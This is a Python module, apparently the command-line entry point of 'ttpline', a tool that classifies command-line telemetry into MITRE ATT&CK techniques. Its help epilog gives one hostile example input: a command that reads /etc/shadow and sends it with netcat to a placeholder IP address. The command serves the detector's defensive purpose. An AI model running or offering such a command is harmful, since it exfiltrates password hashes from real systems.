"""``ttpline``: finds the commands in this folder and runs the one that is asked for.

Every module of this folder whose name does not begin with ``_`` is a command: it defines ``command``, a function, or
``app``, a ``typer.Typer`` with commands of its own. Only the module of the command that is asked for is imported, and
the heavy libraries only inside its functions, so that ``ttpline`` starts at once.
"""

import gc
import importlib
import pkgutil
import sys
import traceback
from collections.abc import Sequence
from typing import Annotated, Any

import typer
from typer.core import TyperGroup

from ttpline.cli._streams import OUTPUT_ERRORS, flushed, replace_closed_streams
from ttpline.cli.exit_codes import ExitCode, report
from ttpline.errors import SinkError, TtplineError

NOT_COMMANDS = frozenset({"main", "exit_codes"})
PROGRAM = "ttpline"
NEW_OBJECTS = 50_000
"""Made before the collector looks for cycles among them. Commands are many small objects without any: its usual 700
cost an eighth of the time."""


def command_names() -> list[str]:
    """The commands there are, by file name; imports none of them."""
    folder = importlib.import_module("ttpline.cli").__path__
    names = (module.name for module in pkgutil.iter_modules(folder))
    return sorted(name.replace("_", "-") for name in names if not name.startswith("_") and name not in NOT_COMMANDS)


class LazyGroup(TyperGroup):
    """Imports a command when it is used, and turns what it raises into its exit code."""

    def list_commands(self, ctx: Any) -> list[str]:
        return command_names()

    def get_command(self, ctx: Any, cmd_name: str) -> Any:
        if cmd_name not in command_names():
            return None
        if cmd_name not in self.commands:
            module = importlib.import_module(f"ttpline.cli.{cmd_name.replace('-', '_')}")
            self.commands[cmd_name] = _built(module, cmd_name)
        return self.commands[cmd_name]

    def resolve_command(self, ctx: Any, args: list[str]) -> Any:
        if args and args[0] not in command_names():
            self.commands = {name: self.get_command(ctx, name) for name in command_names()}  # for "did you mean"
        return super().resolve_command(ctx, args)

    def invoke(self, ctx: Any) -> Any:
        try:
            code = super().invoke(ctx)
        except TtplineError as error:
            code = report(error)
        except KeyboardInterrupt:
            print("ttpline: interrupted", file=sys.stderr)
            code = ExitCode.INTERRUPTED
        except BrokenPipeError:
            code = ExitCode.DONE  # the reader has what it wanted, as with ``| head``
        raise typer.Exit(int(code) if isinstance(code, int) else 0)


def _built(module: Any, name: str) -> Any:
    """The click command of a module."""
    if hasattr(module, "app"):
        app = module.app
    else:
        app = typer.Typer(add_completion=False, rich_markup_mode=None)
        epilog = getattr(module, "EPILOG", None)
        app.command(name, epilog=epilog)(module.command)
    built = typer.main.get_command(app)
    built.name = name
    return built


app = typer.Typer(
    cls=LazyGroup,
    name=PROGRAM,
    no_args_is_help=True,
    rich_markup_mode=None,
    pretty_exceptions_enable=False,
    epilog="Examples:  ttpline classify audit.log   ·   cat cmds.txt | ttpline classify --from text   ·   "
    "ttpline explain 'cat /etc/shadow | nc 192.0.2.1 4444'   ·   ttpline COMMAND --help",
)


def _show_version(wanted: bool) -> None:
    if wanted:
        from ttpline import __version__

        print(f"ttpline {__version__}")
        raise typer.Exit


@app.callback()
def main(
    no_plugins: Annotated[bool, typer.Option("--no-plugins", help="Use nothing but what ttpline brings.")] = False,
    version: Annotated[
        bool, typer.Option("--version", callback=_show_version, is_eager=True, help="Show the version and exit.")
    ] = False,
) -> None:
    """Raw command-line telemetry in, MITRE ATT&CK techniques out."""
    if no_plugins:
        from ttpline.cli._plugins import turn_off

        turn_off()


def run(argv: Sequence[str] | None = None) -> int:
    """Run ``argv`` (default: the process's arguments) and return the exit code. Shows no traceback for anything that
    a user, an input or a closed pipe causes."""
    replace_closed_streams()
    gc.set_threshold(NEW_OBJECTS, *gc.get_threshold()[1:])
    try:
        typer.main.get_command(app).main(args=None if argv is None else list(argv), prog_name=PROGRAM)
        code = 0
    except SystemExit as exit_:
        code = exit_.code if isinstance(exit_.code, int) else int(exit_.code is not None)
    except KeyboardInterrupt:
        code = ExitCode.INTERRUPTED
    except BrokenPipeError:
        code = ExitCode.DONE
    except OSError as error:
        if error.errno in OUTPUT_ERRORS:
            code = report(SinkError(f"cannot be written: {error.strerror}", where="stdout", remedy="free some space"))
        else:
            code = _bug()
    except Exception:
        code = _bug()
    return flushed(int(code))


def _bug() -> ExitCode:
    """What nobody foresaw: the traceback, and a code that no script takes for ``done``."""
    traceback.print_exc()
    print("ttpline: error: this is a bug; please report it with the lines above", file=sys.stderr)
    return ExitCode.BUG
